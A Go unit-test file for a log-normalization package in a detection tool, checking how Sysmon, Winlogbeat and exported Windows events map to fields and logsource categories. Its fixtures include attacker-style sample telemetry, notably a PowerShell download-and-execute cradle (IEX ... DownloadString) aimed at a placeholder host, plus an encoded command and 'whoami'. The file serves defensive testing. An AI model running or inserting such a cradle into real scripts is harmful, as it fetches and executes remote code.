package normalize

import (
	"slices"
	"strconv"
	"testing"
	"time"

	"github.com/khien-project/khien/internal/engine/evtx"
)

// sysmonEvent builds the event evtx's reader gives for a Sysmon record.
func sysmonEvent(id uint16, data ...evtx.Field) *evtx.Event {
	el := func(name, text string, attrs ...evtx.Attr) evtx.Content {
		e := &evtx.Element{Name: name, Attrs: attrs}
		if text != "" {
			e.Content = []evtx.Content{{Text: text}}
		}
		return evtx.Content{Elem: e}
	}
	sys := &evtx.Element{Name: "System", Content: []evtx.Content{
		el("EventID", strconv.Itoa(int(id))), el("Channel", "Microsoft-Windows-Sysmon/Operational"), el("Computer", "PC-KETOAN-01"),
		el("EventRecordID", "4242"), el("Execution", "", evtx.Attr{Name: "ProcessID", Value: "3000"}, evtx.Attr{Name: "ThreadID", Value: "4000"}),
	}}
	return &evtx.Event{
		System: evtx.System{ProviderName: "Microsoft-Windows-Sysmon", EventID: id, TimeCreatedText: "2026-11-30T03:04:05.1234567Z"},
		Data:   data, Section: "EventData",
		Root: &evtx.Element{Name: "Event", Content: []evtx.Content{{Elem: sys}}},
	}
}

func TestFromEVTX(t *testing.T) {
	ev := sysmonEvent(1, evtx.Field{Name: "Image", Value: `C:\Users\Nguyễn\Tài liệu\run.exe`},
		evtx.Field{Name: "CommandLine", Value: `run.exe -enc SQBFAFgA`}, evtx.Field{Name: "ParentImage", Value: `C:\Windows\explorer.exe`})
	e := FromEVTX(evtx.Flatten(ev), "<Event/>")
	checkFields(t, e.Fields, F{"EventID": "1", "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": "PC-KETOAN-01",
		"EventRecordID": "4242", "Execution_ProcessID": "3000", "Execution_ThreadID": "4000", "Provider_Name": "Microsoft-Windows-Sysmon",
		"TimeCreated": "2026-11-30T03:04:05.1234567Z", "Image": `C:\Users\Nguyễn\Tài liệu\run.exe`, "CommandLine": `run.exe -enc SQBFAFgA`,
		"ParentImage": `C:\Windows\explorer.exe`})
	if e.Source != SourceEVTX || e.Original != "<Event/>" || !e.Timestamp.Equal(time.Date(2026, 11, 30, 3, 4, 5, 123456700, time.UTC)) {
		t.Errorf("source %q original %q time %v", e.Source, e.Original, e.Timestamp)
	}
	checkLogsource(t, e.Logsource, Logsource{Product: "windows", Categories: []string{"process_creation"}, Services: []string{"sysmon"}})
	if !e.Logsource.Matches("windows", "process_creation", "") || e.Logsource.Matches("windows", "image_load", "") || e.Logsource.Matches("linux", "", "") {
		t.Error("Matches")
	}
	if e := FromEVTX(nil, ""); e.Fields == nil || e.Logsource.Product != "windows" {
		t.Errorf("empty: %+v", e)
	}
}

func TestWindowsLogsource(t *testing.T) {
	const sysmon = "Microsoft-Windows-Sysmon/Operational"
	cases := []struct {
		channel, provider, id, eventType string
		categories                       []string
		service                          string
	}{
		{sysmon, "", "1", "", []string{"process_creation"}, "sysmon"},
		{sysmon, "", "3", "", []string{"network_connection"}, "sysmon"},
		{sysmon, "", "5", "", []string{"process_termination"}, "sysmon"},
		{sysmon, "", "6", "", []string{"driver_load"}, "sysmon"},
		{sysmon, "", "7", "", []string{"image_load"}, "sysmon"},
		{sysmon, "", "8", "", []string{"create_remote_thread"}, "sysmon"},
		{sysmon, "", "10", "", []string{"process_access"}, "sysmon"},
		{sysmon, "", "11", "", []string{"file_event"}, "sysmon"},
		{sysmon, "", "12", "CreateKey", []string{"registry_add", "registry_event"}, "sysmon"},
		{sysmon, "", "12", "DeleteValue", []string{"registry_delete", "registry_event"}, "sysmon"},
		{sysmon, "", "12", "", []string{"registry_event"}, "sysmon"},
		{sysmon, "", "13", "SetValue", []string{"registry_set", "registry_event"}, "sysmon"},
		{sysmon, "", "14", "RenameKey", []string{"registry_rename", "registry_event"}, "sysmon"},
		{sysmon, "", "15", "", []string{"create_stream_hash"}, "sysmon"},
		{sysmon, "", "17", "", []string{"pipe_created"}, "sysmon"},
		{sysmon, "", "18", "", []string{"pipe_created"}, "sysmon"},
		{sysmon, "", "22", "", []string{"dns_query"}, "sysmon"},
		{sysmon, "", "23", "", []string{"file_delete"}, "sysmon"},
		{sysmon, "", "26", "", []string{"file_delete", "file_delete_detected"}, "sysmon"},
		{sysmon, "", "255", "", []string{"sysmon_error"}, "sysmon"},
		{sysmon, "", "9999", "", nil, "sysmon"},
		{"", "Microsoft-Windows-Sysmon", "1", "", []string{"process_creation"}, "sysmon"},
		{"Security", "Microsoft-Windows-Security-Auditing", "4688", "", []string{"process_creation"}, "security"},
		{"Security", "Microsoft-Windows-Security-Auditing", "4625", "", nil, "security"},
		{"security", "", "4624", "", nil, "security"},
		{"System", "Service Control Manager", "7045", "", nil, "system"},
		{"Microsoft-Windows-PowerShell/Operational", "", "4104", "", []string{"ps_script"}, "powershell"},
		{"Microsoft-Windows-PowerShell/Operational", "", "4103", "", []string{"ps_module"}, "powershell"},
		{"Windows PowerShell", "", "400", "", []string{"ps_classic_start"}, "powershell-classic"},
		{"Windows PowerShell", "", "600", "", []string{"ps_classic_provider_start"}, "powershell-classic"},
		{"Microsoft-Windows-Windows Defender/Operational", "", "1116", "", nil, "windefend"},
		{"Microsoft-Windows-AppLocker/EXE and DLL", "", "8004", "", nil, "applocker"},
		{"Some-Vendor/Admin", "", "1", "", nil, ""},
	}
	for _, c := range cases {
		ls := WindowsLogsource(c.channel, c.provider, c.id, c.eventType)
		want := Logsource{Product: "windows", Categories: c.categories}
		if c.service != "" {
			want.Services = []string{c.service}
		}
		if ls.Product != want.Product || !slices.Equal(ls.Categories, want.Categories) || !slices.Equal(ls.Services, want.Services) {
			t.Errorf("%s %s %s: %+v, want %+v", c.channel, c.id, c.eventType, ls, want)
		}
	}
}

const winlogbeatDoc = `{"@timestamp":"2026-11-30T03:04:05.123Z","event":{"code":"4688","kind":"event","provider":"Microsoft-Windows-Security-Auditing"},
"host":{"name":"dc01.so.local"},"winlog":{"channel":"Security","computer_name":"DC01.so.local","event_id":4688,"record_id":778899,
"provider_name":"Microsoft-Windows-Security-Auditing","process":{"pid":4,"thread":{"id":120}},
"event_data":{"NewProcessName":"C:\\Windows\\System32\\cmd.exe","CommandLine":"cmd.exe /c whoami","SubjectUserName":"phạm.an","TokenElevationType":"%%1936"}},
"tags":["beats","windows"]}`

func TestWinlogbeat(t *testing.T) {
	e := Normalize(Input{Kind: KindJSON, Body: winlogbeatDoc})
	checkFields(t, e.Fields, F{
		"@timestamp": "2026-11-30T03:04:05.123Z", "event.code": "4688", "event.kind": "event", "event.provider": "Microsoft-Windows-Security-Auditing",
		"host.name": "dc01.so.local", "winlog.channel": "Security", "winlog.computer_name": "DC01.so.local", "winlog.event_id": int64(4688),
		"winlog.record_id": int64(778899), "winlog.provider_name": "Microsoft-Windows-Security-Auditing", "winlog.process.pid": int64(4),
		"winlog.process.thread.id": int64(120), "winlog.event_data.NewProcessName": `C:\Windows\System32\cmd.exe`,
		"winlog.event_data.CommandLine": "cmd.exe /c whoami", "winlog.event_data.SubjectUserName": "phạm.an",
		"winlog.event_data.TokenElevationType": "%%1936", "tags": []any{"beats", "windows"},
		"EventID": "4688", "Channel": "Security", "Computer": "DC01.so.local", "EventRecordID": "778899",
		"Provider_Name": "Microsoft-Windows-Security-Auditing", "Execution_ProcessID": "4", "Execution_ThreadID": "120",
		"NewProcessName": `C:\Windows\System32\cmd.exe`, "Image": `C:\Windows\System32\cmd.exe`, "CommandLine": "cmd.exe /c whoami", "SubjectUserName": "phạm.an", "TokenElevationType": "%%1936",
	})
	if e.Source != SourceWinlogbeat || e.Original != winlogbeatDoc || !e.Timestamp.Equal(time.Date(2026, 11, 30, 3, 4, 5, 123e6, time.UTC)) {
		t.Errorf("source %q time %v", e.Source, e.Timestamp)
	}
	checkLogsource(t, e.Logsource, Logsource{Product: "windows", Categories: []string{"process_creation"}, Services: []string{"security"}})
}

// An older Winlogbeat without event.code: the event id comes from winlog.event_id.
func TestWinlogbeatEventIDOnly(t *testing.T) {
	e := Normalize(Input{Kind: KindJSON, Body: `{"winlog":{"channel":"Microsoft-Windows-Sysmon/Operational","event_id":13,"event_data":{"EventType":"SetValue","TargetObject":"HKLM\\Run"}}}`})
	checkFields(t, e.Fields, F{"winlog.channel": "Microsoft-Windows-Sysmon/Operational", "winlog.event_id": int64(13),
		"winlog.event_data.EventType": "SetValue", "winlog.event_data.TargetObject": `HKLM\Run`,
		"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": "13", "EventType": "SetValue", "TargetObject": `HKLM\Run`})
	checkLogsource(t, e.Logsource, Logsource{Product: "windows", Categories: []string{"registry_set", "registry_event"}, Services: []string{"sysmon"}})
}

func TestWindowsJSONExport(t *testing.T) {
	doc := `{"Event":{"#attributes":{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"},
"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-PowerShell","Guid":"A0C1853B-5C40-4B15-8766-3CF1C58F985A"}},
"EventID":4104,"Channel":"Microsoft-Windows-PowerShell/Operational","Computer":"PC01","TimeCreated":{"#attributes":{"SystemTime":"2026-11-30T01:02:03.000004Z"}},
"Execution":{"#attributes":{"ProcessID":1,"ThreadID":2}}},
"EventData":{"ScriptBlockText":"IEX (New-Object Net.WebClient).DownloadString('http://x')","MessageNumber":1}}}`
	e := Normalize(Input{Kind: KindJSON, Body: doc})
	want := F{"Event.#attributes.xmlns": "http://schemas.microsoft.com/win/2004/08/events/event",
		"Event.System.Provider.#attributes.Name": "Microsoft-Windows-PowerShell", "Event.System.Provider.#attributes.Guid": "A0C1853B-5C40-4B15-8766-3CF1C58F985A",
		"Event.System.EventID": int64(4104), "Event.System.Channel": "Microsoft-Windows-PowerShell/Operational", "Event.System.Computer": "PC01",
		"Event.System.TimeCreated.#attributes.SystemTime": "2026-11-30T01:02:03.000004Z",
		"Event.System.Execution.#attributes.ProcessID":    int64(1), "Event.System.Execution.#attributes.ThreadID": int64(2),
		"Event.EventData.ScriptBlockText": "IEX (New-Object Net.WebClient).DownloadString('http://x')", "Event.EventData.MessageNumber": int64(1),
		"Provider_Name": "Microsoft-Windows-PowerShell", "Provider_Guid": "A0C1853B-5C40-4B15-8766-3CF1C58F985A", "EventID": "4104",
		"Channel": "Microsoft-Windows-PowerShell/Operational", "Computer": "PC01", "TimeCreated": "2026-11-30T01:02:03.000004Z",
		"Execution_ProcessID": "1", "Execution_ThreadID": "2",
		"ScriptBlockText": "IEX (New-Object Net.WebClient).DownloadString('http://x')", "MessageNumber": "1"}
	checkFields(t, e.Fields, want)
	if e.Source != SourceWindowsJSON || !e.Timestamp.Equal(time.Date(2026, 11, 30, 1, 2, 3, 4000, time.UTC)) {
		t.Errorf("source %q time %v", e.Source, e.Timestamp)
	}
	checkLogsource(t, e.Logsource, Logsource{Product: "windows", Categories: []string{"ps_script"}, Services: []string{"powershell"}})
}

// Flat Windows events (as `khien rules test` may be given) are routed by
// their Channel and EventID.
func TestFlatWindowsJSON(t *testing.T) {
	e := Normalize(Input{Kind: KindJSON, Body: `{"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", "Image": "C:\\x.exe"}`})
	checkFields(t, e.Fields, F{"EventID": int64(1), "Channel": "Microsoft-Windows-Sysmon/Operational", "Image": `C:\x.exe`})
	if e.Source != SourceJSON {
		t.Errorf("source %q", e.Source)
	}
	checkLogsource(t, e.Logsource, Logsource{Product: "windows", Categories: []string{"process_creation"}, Services: []string{"sysmon"}})
}

// The System block wins over an event data field of the same name (as in
// evtx.Flatten); user data is read like event data.
func TestWinlogbeatSystemWins(t *testing.T) {
	e := Normalize(Input{Kind: KindJSON, Body: `{"event":{"code":"7045"},"winlog":{"channel":"System","event_data":{"Channel":"x","EventID":"1"},"user_data":{"Param":"v"}}}`})
	checkFields(t, e.Fields, F{"event.code": "7045", "winlog.channel": "System", "winlog.event_data.Channel": "x", "winlog.event_data.EventID": "1",
		"winlog.user_data.Param": "v", "Channel": "System", "EventID": "7045", "Param": "v"})
	checkLogsource(t, e.Logsource, Logsource{Product: "windows", Services: []string{"system"}})
}
